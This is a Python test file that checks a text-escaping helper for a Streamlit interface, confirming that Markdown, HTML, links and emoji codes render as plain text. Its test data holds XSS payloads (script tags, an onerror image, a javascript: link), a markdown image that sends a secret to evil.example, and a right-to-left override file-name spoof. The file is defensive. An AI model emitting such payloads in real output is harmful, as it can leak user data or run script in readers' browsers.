"""Text of documents and models stays text: in a CommonMark parser here, and in Streamlit itself in tests/browser."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.components.safe_text import GAP, escape, escape_lines, short

NASTY = [
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "&lt;b&gt; &amp; &#33;",
    "$E = mc^2$ and $$x$$",
    ":red[danger] :material/home: :smile: :streamlit:",
    "# heading\n- list\n1. one\n> quote\n```code```\n---",
    "    four spaces are code",
    "https://evil.example www.evil.example me@evil.example",
    "[ref]: https://evil.example 'x'\n[ref]",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "`code` *emphasis* __strong__ ~~gone~~ \\* \\",
    "a -> b <- c -- d >= e <= f ~= g",
    "line\r\nbreak\ttab\u2028separator",
]


def tokens(markdown):
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    for block in parser.parse(markdown):
        yield block
        yield from block.children or ()


def shown(markdown):
    """Return the text that a reader sees, once every token is known to be plain text."""
    plain = {"paragraph_open", "paragraph_close", "inline", "text", "text_special", "hardbreak", "softbreak"}
    found = list(tokens(markdown))
    assert {token.type for token in found} <= plain, [token.type for token in found]
    return "".join(token.content for token in found if token.type in ("text", "text_special")).replace(GAP, "")


@pytest.mark.parametrize("text", NASTY)
def test_nothing_is_interpreted_and_no_letter_is_lost(text):
    assert shown(escape(text)) == " ".join(text.split())


@given(st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc", "Cf")), max_size=80))
def test_any_text_survives_the_parser(text):
    assert shown(escape(text)) == " ".join(text.split())


@given(st.text(alphabet=string.punctuation + "ab1 \n", max_size=60))
def test_any_mixture_of_marks_survives_the_parser(text):
    assert shown(escape(text)) == " ".join(text.split())


@given(st.text(alphabet=string.punctuation + "ab1 \n", max_size=60))
def test_lines_stay_lines(text):
    expected = "".join(" ".join(line.split()) for line in text.splitlines())
    assert shown(escape_lines(text)) == expected


@pytest.mark.parametrize(
    "text", [":smile:", ":material/home:", ":red[x]", "https://x.y", "mailto:a@b.c", ":+1:", ":red-badge[x]"]
)
def test_no_colon_stands_directly_before_a_letter(text):
    """Emoji, icons and addresses are replaced after parsing, where a backslash no longer helps."""
    assert ":" + GAP in escape(text)
    assert not any(f":{sign}" in shown_raw(escape(text)) for sign in string.ascii_letters + string.digits + "/+")


def shown_raw(markdown):
    return "".join(token.content for token in tokens(markdown) if token.type in ("text", "text_special"))


@pytest.mark.parametrize("pair", ["->", "<-", "--", ">=", "<=", "~=", "<->"])
def test_arrows_and_dashes_are_not_replaced(pair):
    assert pair not in shown_raw(escape(f"a {pair} b"))


def test_bare_addresses_are_broken():
    for text in ("see www.evil.example", "write me@evil.example", "HTTP://evil.example", "WWW.EVIL.EXAMPLE"):
        raw = shown_raw(escape(text))
        assert "www." not in raw.lower()
        assert "@e" not in raw
        assert "://" not in raw


def test_marks_that_turn_the_writing_direction_are_left_out():
    assert escape("report\u202efdp.exe") == "reportfdp\\.exe"
    assert escape("a\x00b\x07") == "ab"


@given(st.text(max_size=200), st.integers(10, 60))
def test_short_keeps_the_limit_and_both_ends(text, limit):
    line = " ".join(text.split())
    cut = short(text, limit)
    assert len(cut) <= limit
    if len(line) > limit:
        assert line.startswith(cut.split("…")[0])
        assert cut[-1] == line[-1]
